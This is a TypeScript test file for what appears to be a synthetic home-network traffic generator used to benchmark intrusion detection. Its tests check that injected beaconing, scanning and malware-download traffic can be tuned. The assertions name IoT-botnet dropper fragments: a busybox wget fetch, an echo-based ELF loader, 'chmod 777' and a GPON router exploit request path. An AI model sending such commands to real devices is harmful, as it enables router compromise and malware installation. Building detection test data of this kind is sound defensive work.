/**
 * Tuned injections (InjectRequest.tune, used by bench/robustness.ts): a tuned parameter
 * replaces the drawn one, and a request that tunes nothing the injector reads writes the
 * same home, byte for byte, as one without tune (the draws are made either way).
 */
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { DEFAULTS, generate } from '../../datasets/generator/generate.js';
import type { InjectRequest } from '../../datasets/generator/mix.js';

const dir = mkdtempSync(join(tmpdir(), 'hw-tune-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function home(name: string, inject: InjectRequest[]) {
  const out = join(dir, `${name}.pcap`);
  const r = generate({ ...DEFAULTS, devices: 6, packets: 1e9, out, hours: 2.5, seed: 77, inject });
  return { r, sha: createHash('sha256').update(readFileSync(out)).digest('hex') };
}

describe('tuned injections', () => {
  it('replace what was drawn, and leave the home as it was when they tune nothing', () => {
    const beacon: InjectRequest = { behaviour: 'beaconing', variant: 'ip', kind: null };
    const scan: InjectRequest = { behaviour: 'scan', variant: 'telnet', kind: null };
    const plain = home('plain', [beacon, scan]);
    const inert = home('inert', [
      { ...beacon, tune: { unused: 1 } },
      { ...scan, tune: { unused: 1 } },
    ]);
    expect(inert.sha).toBe(plain.sha);
    const tuned = home('tuned', [
      { ...beacon, tune: { periodS: 300, jitter: 0.25, port: 8080, contacts: 7 } },
      { ...scan, tune: { rate: 0.5, seconds: 600 } },
    ]);
    const [b, s] = tuned.r.injected;
    expect(b.detail).toMatchObject({ periodS: 300, jitter: 0.25, contacts: 7 });
    expect(String(b.detail.endpoint)).toMatch(/:8080$/);
    expect(s.detail).toMatchObject({ synsPerSecond: 0.5, syns: 300 });
    // 300 SYNs at 0.5 a second (exponential gaps): about ten minutes on the wire.
    expect((s.lastUs - s.firstUs) / 1e6).toBeGreaterThan(450);
    expect((s.lastUs - s.firstUs) / 1e6).toBeLessThan(760);
    expect(plain.r.injected[0].detail.periodS).not.toBe(300);
  });
});

describe('malware_download’s dropper commands (tune keys only)', () => {
  const elf: InjectRequest = { behaviour: 'malware_download', variant: 'elf', kind: null };
  const capture = (name: string): Buffer => readFileSync(join(dir, `${name}.pcap`));

  it('are never drawn: without `command` the home is the one without tune', () => {
    const plain = home('mw-plain', [elf]);
    expect(home('mw-inert', [{ ...elf, tune: { unused: 1 } }]).sha).toBe(plain.sha);
    expect(capture('mw-plain').includes('chmod 777')).toBe(false);
    expect(plain.r.injected[0].detail.command).toBeUndefined();
  });

  it('send the command, then the download or not', () => {
    const withDownload = home('mw-telnet', [{ ...elf, tune: { command: 1 } }]);
    const d = withDownload.r.injected[0].detail;
    expect(d).toMatchObject({ command: 'telnet-wget', download: true });
    const pcap = capture('mw-telnet');
    expect(pcap.includes(`/bin/busybox wget ${String(d.url)} -O .w`)).toBe(true);
    expect(pcap.includes(`GET ${new URL(String(d.url)).pathname} HTTP/1.1`)).toBe(true);
    const echo = home('mw-echo', [{ ...elf, tune: { command: 2 } }]);
    expect(echo.r.injected[0].detail).toMatchObject({ command: 'echo-loader', download: false });
    expect(capture('mw-echo').includes("echo -ne '\\x7f\\x45\\x4c\\x46")).toBe(true);
    const gpon = home('mw-gpon', [{ ...elf, tune: { command: 4, download: 0 } }]);
    expect(gpon.r.injected[0].detail).toMatchObject({ command: 'http-body', download: false });
    expect(capture('mw-gpon').includes('POST /GponForm/diag_Form?images/')).toBe(true);
  });
});
